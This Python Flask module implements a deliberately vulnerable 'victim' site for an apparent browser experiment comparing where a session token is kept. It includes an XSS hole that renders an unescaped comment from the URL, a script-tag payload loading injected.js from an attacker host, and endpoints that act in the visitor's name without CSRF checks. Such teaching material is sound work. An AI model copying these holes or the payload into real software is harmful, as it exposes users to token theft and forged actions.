"""The victim: a small site that keeps its visitor's token where one tells it to."""

from __future__ import annotations

from urllib.parse import urlencode

from flask import Blueprint, Flask, abort, redirect, render_template, request
from flask import make_response as response_of
from werkzeug.wrappers import Response

from flask_service.security_headers import content_security_policy

from ..current import config
from . import cookies
from .catalogue import PLACES
from .current import notebook_asked_for, notebooks
from .experiments import EXPERIMENTS, MEASURED, measured, rows, shown, tone, verdict
from .notebooks import Notebook

STEPS = ("hole", "strict", "hold", "tab", "opened", "again")
LOOKS = ("kept", "used", "reload", "tab", "opened", "again")  # seen by a request of the site itself
# Seen by a request of the attacker's site.
FROM_ELSEWHERE = ("link", "form", "image", "frame", "fetch")
# What no request shows, and a page has to tell.
TOLD = {"strict": ("yes", "no"), "back": ("token", "page", "no")}

blueprint = Blueprint("victim", __name__)


def init_app(app: Flask) -> None:
    """Give the application the victim's pages."""
    app.jinja_env.globals.update(
        places=PLACES.values(),
        experiments=EXPERIMENTS,
        browsers=MEASURED,
        measured=measured,
        shown=shown,
        tone=tone,
    )
    app.register_blueprint(blueprint)


@blueprint.get("/")
def front_page() -> str:
    """Explain the question, let the visitor choose a place, and show what was measured."""
    return render_template("places/front.html", notebook=request.args.get("notebook", ""))


@blueprint.post("/begin")
def begin() -> Response:
    """Sign the visitor in, and put the token where they chose."""
    place = PLACES.get(request.form.get("place", "")) or abort(400)
    notebook = notebooks().open(request.form.get("notebook", ""), place)
    response = redirect(_app(notebook, "hole", comment=_comment()), 303)
    cookies.put(response, notebook.run)
    return response


@blueprint.get("/app")
def app_page() -> Response:
    """Show the site's one page. In the first step it has the hole.

    The comment comes from the address, and the template writes it as it stands. Whoever has no
    notebook of this process does not come so far; the policy lets in one stranger's script only.
    """
    notebook = notebook_asked_for()
    step = request.args.get("step", "")
    if step not in STEPS:
        abort(400)
    run = notebook.run
    following = {"hole": _app(notebook, "strict", comment=_comment())}.get(
        step, f"{config().attacker_url}/visit?notebook={notebook.id}"
    )
    page = render_template(
        "places/app.html",
        step="signed-out" if step == "hold" and run.signed_out else step,
        notebook=notebook,
        place=run.place,
        next=following,
        unverified_comment=request.args.get("comment", ""),
    )
    response = response_of(page)
    strangers = f" {config().attacker_url}" if step == "hole" else ""
    response.headers["Content-Security-Policy"] = _policy(strangers)
    return response


@blueprint.post("/token")
def token() -> Response:
    """Hand the token to the page's own script, for a place that only scripts can write to."""
    run = notebook_asked_for().run
    if run.place.cookie:
        abort(404)
    return Response(run.token, mimetype="text/plain")


@blueprint.post("/look")
def look() -> Response:
    """Note whether a request of the site's page is one of the visitor's, as an API would see."""
    notebook = notebook_asked_for()
    experiment = request.args.get("experiment", "")
    if experiment not in LOOKS:
        abort(400)
    notebook.note_use(experiment, cookies.presented(request, notebook.run.place))
    if experiment == "kept":
        notebook.run.seen["bytes"] = str(cookies.size(request, notebook.run.place))
    return Response(status=204)


@blueprint.post("/seen")
def seen() -> Response:
    """Note what only the page can tell."""
    run = notebook_asked_for().run
    experiment, outcome = (request.args.get(name, "") for name in ("experiment", "outcome"))
    if outcome not in TOLD.get(experiment, ()):
        abort(400)
    run.seen[experiment] = outcome
    return Response(status=204)


@blueprint.route("/act/<way>", methods=["GET", "POST"])
def act(way: str) -> Response:
    """Do something in the visitor's name, without any check of who asks: other sites try it."""
    if way not in FROM_ELSEWHERE:
        abort(404)
    notebook = notebook_asked_for()
    notebook.note_use(way, cookies.presented(request, notebook.run.place))
    if way == "form":
        return redirect(f"{config().attacker_url}/visit?notebook={notebook.id}&then=link", 303)
    if way == "link":
        # A page, and no redirect: a Strict cookie would not come along one that began elsewhere.
        return response_of(render_template("places/landing.html", next=_app(notebook, "hold")))
    if way == "frame":
        return _page_to_frame()
    return Response(status=204)


def _page_to_frame() -> Response:
    """Make a page that the attacker's may hold in a frame: a browser shows it no other of ours."""
    response = Response("framed", mimetype="text/plain")
    ancestors = f"frame-ancestors {config().attacker_url}"
    policy = _policy("").replace("frame-ancestors 'none'", ancestors)
    response.headers["Content-Security-Policy"] = policy
    return response


@blueprint.post("/sign-out")
def sign_out() -> Response:
    """End the session, and take the token out of this browser, as far as a server can."""
    notebook = notebook_asked_for()
    run = notebook.run
    run.signed_out = True
    notebook.note_use("copy", run.credential)
    response = redirect(f"/signed-out?notebook={notebook.id}", 303)
    cookies.end(response, run.place)
    return response


@blueprint.get("/signed-out")
def signed_out() -> str:
    """Say that the visitor is signed out, and go back, as the next user of the machine would."""
    return render_template("places/signed_out.html", notebook=notebook_asked_for())


@blueprint.get("/results")
def results() -> str:
    """Show what was seen in this browser beside what was measured, the newest place first."""
    notebook = notebook_asked_for()
    runs = reversed(notebook.runs.values())
    tables = [(run.place, rows(run.place.name, run.seen), verdict(run.seen)) for run in runs]
    return render_template("places/results.html", notebook=notebook, tables=tables)


@blueprint.after_request
def let_scripts_ask_us(response: Response) -> Response:
    """Let the pages' own scripts send requests to their own site, and nowhere else."""
    response.headers.setdefault("Content-Security-Policy", _policy(""))
    return response


def _policy(strangers: str) -> str:
    policy = content_security_policy("'self'")
    policy = policy.replace("script-src 'self'", f"script-src 'self'{strangers}")
    return f"{policy}; connect-src 'self'{strangers}"


def _app(notebook: Notebook, step: str, **more: str) -> str:
    return "/app?" + urlencode({"notebook": notebook.id, "step": step, **more})


def _comment() -> str:
    return f'Nice page! <script src="{config().attacker_url}/static/places/injected.js"></script>'
